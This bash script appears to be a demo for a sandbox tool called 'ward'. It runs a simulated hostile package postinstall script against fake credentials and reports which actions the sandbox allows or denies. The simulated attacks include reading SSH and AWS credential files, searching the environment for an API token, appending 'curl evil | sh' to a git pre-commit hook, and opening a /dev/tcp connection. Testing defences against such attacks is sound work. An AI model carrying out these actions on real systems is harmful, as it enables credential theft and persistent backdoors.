#!/usr/bin/env bash
# The demo: a "postinstall script" from a hostile package runs under
# `ward run` with the default policy. It tries what such scripts do; each
# line says what the kernel allowed or denied, and the host is checked
# afterwards.
#   demo/demo.sh [path/to/ward]
set -u
WARD=$(realpath "${1:-build/ward}")
T=$(mktemp -d /tmp/ward-demo.XXXXXX)
trap 'rm -rf "$T"' EXIT
chmod 755 "$T"

# A fake user: a home with an SSH key and a cloud token, and a project.
export HOME=$T/home XDG_STATE_HOME=$T/home/.local/state XDG_CONFIG_HOME=$T/home/.config
mkdir -p "$HOME/.ssh" "$HOME/.aws" "$T/project/.git/hooks"
echo "-----BEGIN OPENSSH PRIVATE KEY----- demo" >"$HOME/.ssh/id_ed25519"
printf '[default]\naws_secret_access_key = demo\n' >"$HOME/.aws/credentials"
echo '#!/bin/sh' >"$T/project/.git/hooks/pre-commit"
echo '{ "name": "demo" }' >"$T/project/package.json"
echo "original" >"$T/outside.txt"
cd "$T/project" || exit 1

cat >"$T/project/postinstall.sh" <<'SH'
try() {
	desc=$1; shift
	if "$@" >/dev/null 2>&1; then echo "  allowed  $desc"; else echo "  DENIED   $desc"; fi
}
echo "inside the sandbox (uid $(id -u), pid $$, hostname $(hostname)):"
try "write a build artifact in the workspace"    sh -c 'echo built > dist.txt'
try "read system files (/usr, /etc/os-release)"  cat /etc/os-release
try "use a private /tmp"                          sh -c 'echo x > /tmp/scratch'
try "read ~/.ssh/id_ed25519"                      cat "$HOME/.ssh/id_ed25519"
try "read ~/.aws/credentials"                     cat "$HOME/.aws/credentials"
try "see the API token in the environment"        sh -c 'env | grep -q DEMO_API_TOKEN'
try "append to .git/hooks/pre-commit"             sh -c 'echo "curl evil | sh" >> .git/hooks/pre-commit'
try "modify a file outside the workspace"         sh -c "echo pwned >> $OUTSIDE && grep -q original $OUTSIDE"
try "connect to a host port (127.0.0.1:$PORT)"    sh -c "exec 3<>/dev/tcp/127.0.0.1/$PORT"
try "see host processes (the listener, pid $LPID)" kill -0 "$LPID"
try "create a nested user namespace (seccomp)"    unshare --user true
try "remount / read-write (seccomp, no caps)"     mount -o remount,rw /
(sleep 300 &) ; echo "  started a background daemon (sleep 300)"
SH

# A host-side listener: it must see no connection.
PORT=$((30000 + RANDOM % 20000))
python3 -c '
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(1); s.settimeout(15)
try:
    s.accept(); open(sys.argv[2], "w").write("connected")
except Exception: pass' "$PORT" "$T/listener" &
LPID=$!
sleep 0.3

echo "\$ ward run -- sh postinstall.sh"
DEMO_API_TOKEN=sk-demo-123 "$WARD" run --env OUTSIDE="$T/outside.txt" --env PORT="$PORT" \
	--env LPID="$LPID" -- bash postinstall.sh
echo "ward exited with status $?"
echo
echo "checked on the host afterwards:"
printf '  %-45s %s\n' "dist.txt in the workspace:" "$(cat dist.txt 2>/dev/null || echo missing)"
printf '  %-45s %s\n' "file outside the workspace:" "$(cat "$T/outside.txt")"
printf '  %-45s %s\n' ".git/hooks/pre-commit:" "$(tail -1 .git/hooks/pre-commit)"
printf '  %-45s %s\n' "host listener:" "$(cat "$T/listener" 2>/dev/null || echo 'no connection')"
printf '  %-45s %s\n' "background daemon still running:" \
	"$(pgrep -f 'sleep 300' >/dev/null && echo yes || echo no)"
kill "$LPID" 2>/dev/null
echo
echo "audit log ($XDG_STATE_HOME/ward/audit.jsonl):"
sed 's/^/  /' "$XDG_STATE_HOME/ward/audit.jsonl" | cut -c1-200
